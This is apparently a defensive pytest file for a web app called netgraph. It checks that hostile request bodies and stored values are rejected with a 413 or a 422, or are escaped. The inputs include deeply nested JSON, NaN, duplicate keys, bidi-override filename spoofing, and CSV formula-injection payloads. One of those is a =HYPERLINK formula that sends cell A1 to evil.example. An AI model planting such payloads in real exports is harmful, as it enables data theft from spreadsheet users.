"""Hostile request bodies and stored values: a 413 or a 422 naming the field, never a 500 or a bad answer.

Bodies are read by netgraph's one JSON reader (no NaN, no duplicate keys,
no half surrogate pairs, 32 deep at most) and held to the limits table; a
body over ``MAX_CONTENT_LENGTH`` is a 413. What the app sends never holds
NaN or a bidirectional control, even when the store holds one from before
the rules.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from netgraph.model.validate import validate

PROPOSAL = {"by": "p009", "introduce": "p033", "to": "p084"}


def post_text(browser, url, text: str):
    """POST a body exactly as written (the test client's ``json=`` could not write NaN or bad escapes)."""
    return browser.client.post(
        url,
        data=text.encode("utf-8", "surrogatepass"),
        headers={"X-CSRFToken": browser.token, "Content-Type": "application/json"},
    )


def problem(response) -> tuple[str, str]:
    assert response.status_code == 422, response.data[:300]
    (found,) = response.json["problems"]
    return found["field"], found["message"]


def test_a_what_if_body_nested_a_hundred_thousand_deep_is_a_422_naming_leavers(as_user):
    response = post_text(as_user("hr"), "/api/succession/what-if", '{"leavers": ' + "[" * 100_000)
    field, message = problem(response)
    assert field.startswith("leavers") and "nested more than 32 deep" in message


@pytest.mark.parametrize("field, value", [("introduce", ["p033"]), ("to", {"x": 1}), ("by", 9)])
def test_an_id_that_is_not_text_is_a_422_naming_the_field(as_user, field, value):
    response = as_user("hr").post_json("/api/introductions", {**PROPOSAL, field: value})
    assert problem(response)[0] == field


def test_an_id_with_a_slash_is_a_422(as_user):
    assert problem(as_user("hr").post_json("/api/introductions", {**PROPOSAL, "to": "p084/x"}))[0] == "to"


def test_a_note_with_half_a_surrogate_pair_is_a_422_naming_the_note(as_user):
    body = json.dumps(PROPOSAL)[:-1] + ', "note": "x\\udcffy"}'
    field, message = problem(post_text(as_user("hr"), "/api/introductions", body))
    assert field == "note" and "U+DCFF" in message


def test_a_note_over_its_limit_is_a_422_naming_the_note(as_user):
    field, message = problem(as_user("hr").post_json("/api/introductions", {**PROPOSAL, "note": "n" * 4001}))
    assert (field, message) == ("note", "4001 characters, more than the limit of 4000")


def test_a_note_with_a_nul_is_a_422(as_user):
    assert problem(as_user("hr").post_json("/api/introductions", {**PROPOSAL, "note": "a\x00b"}))[0] == "note"


def test_a_ten_megabyte_body_is_a_413(as_user):
    response = as_user("hr").post_json("/api/introductions", {**PROPOSAL, "note": "n" * 10_000_000})
    assert response.status_code == 413 and response.is_json and response.json["error"]


def test_nan_in_a_body_is_a_422_naming_the_field(as_user):
    response = post_text(as_user("hr"), "/api/succession/what-if", '{"leavers": ["p099"], "promote": NaN}')
    assert problem(response)[0] == "promote"


def test_a_duplicate_key_in_a_body_is_a_422_naming_it(as_user):
    response = post_text(as_user("hr"), "/api/succession/what-if", '{"leavers": ["p099"], "leavers": ["p033"]}')
    assert problem(response) == ("leavers", "the key 'leavers' appears twice in one object (line 1, column 23)")


def test_more_leavers_than_the_limit_is_a_422(as_user):
    response = as_user("hr").post_json("/api/succession/what-if", {"leavers": ["p099"] * 1001})
    assert problem(response) == ("leavers", "1001 items, more than the limit of 1000")


def test_the_json_provider_refuses_nan_naming_where_it_is(app):
    from netgraph.errors import StoredValueInvalid

    with app.app_context(), pytest.raises(StoredValueInvalid, match=r"^the answer: width is nan, from a value stored"):
        app.json.dumps({"width": float("nan")})


def test_a_nan_stored_before_the_rules_never_reaches_an_answer(store, demo_document, accounts_file):
    from tests.web.conftest import Browser, make_app

    clean = validate(demo_document)
    store.write(clean)
    store.write({"knows": [{**clean["knows"][0], "strength": float("nan"), "declared_strength": float("nan")}]})
    app = make_app(store, accounts_file)
    app.config["PROPAGATE_EXCEPTIONS"] = False
    person = clean["knows"][0]["a"]
    response = Browser(app).login("hr").get(f"/api/people/{person}/network")
    assert response.status_code == 500 and b"NaN" not in response.data
    json.loads(response.data, parse_constant=lambda name: pytest.fail(f"{name} in an answer"))


def test_a_name_with_a_bidi_override_stored_before_the_rules_is_shown_without_it(store, demo_document, accounts_file):
    from tests.web.conftest import Browser, make_app

    store.write(validate(demo_document))
    store.write(
        {"people": [{**validate({"people": [{"id": "p-rlo", "name": "x"}]})["people"][0], "name": "Eve \u202egnp.exe"}]}
    )
    browser = Browser(make_app(store, accounts_file)).login("hr")
    page = browser.get("/people/p-rlo").data.decode()
    answer = browser.get("/api/people/p-rlo").json
    assert "Eve gnp.exe" in page and "\u202e" not in page
    assert answer["name"] == "Eve gnp.exe"


def test_the_succession_csv_escapes_formula_like_cells(store, demo_document, accounts_file):
    from tests.web.conftest import Browser, make_app

    document = {
        **demo_document,
        "positions": demo_document["positions"]
        + [{"id": "-pos-evil", "title": '=HYPERLINK("http://evil.example","x")', "critical": True}],
    }
    store.write(validate(document))
    body = Browser(make_app(store, accounts_file)).login("hr").get("/succession.csv").data.decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert ["'-pos-evil", '\'=HYPERLINK("http://evil.example","x")'] in [row[:2] for row in rows]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_a_note_planted_by_a_mentor_is_escaped_in_the_csv_export(writable_as, store, tmp_path):
    from netgraph.io.documents import write_document

    note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert writable_as("sana").post_json("/api/introductions", {**PROPOSAL, "note": note}).status_code == 201
    write_document(store.export(), tmp_path / "csv", "csv")
    with open(tmp_path / "csv" / "introductions.csv", newline="", encoding="utf-8") as handle:
        notes = [row["note"] for row in csv.DictReader(handle)]
    assert "'" + note in notes and note not in notes
